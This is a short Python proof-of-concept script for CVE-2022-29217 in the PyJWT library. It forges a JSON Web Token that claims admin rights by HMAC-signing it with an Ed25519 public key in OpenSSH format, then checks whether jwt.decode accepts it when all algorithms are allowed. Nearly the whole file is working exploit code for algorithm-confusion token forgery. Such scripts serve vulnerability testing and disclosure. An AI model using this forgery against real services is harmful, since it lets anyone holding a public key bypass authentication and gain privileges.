# CVE-2022-29217 (PYSEC-2022-202): with every algorithm allowed, an HMAC token keyed with an Ed25519
# public key in OpenSSH format verifies, so anyone holding the public key forges tokens.
import base64
import hashlib
import hmac

import jwt

public = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOWc7RbaNswMtNtc+n6WZDlUblMr2FBPo79fcGXsJlGQ attacker@example"


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


header, payload = b64(b'{"alg":"HS256","typ":"JWT"}'), b64(b'{"admin":true}')
signature = b64(hmac.new(public, header + b"." + payload, hashlib.sha256).digest())
token = (header + b"." + payload + b"." + signature).decode()
try:
    claims = jwt.decode(token, public, algorithms=list(jwt.algorithms.get_default_algorithms()))
    print("FORGED" if claims.get("admin") else "rejected")
except Exception as exc:
    print("rejected", type(exc).__name__, exc)
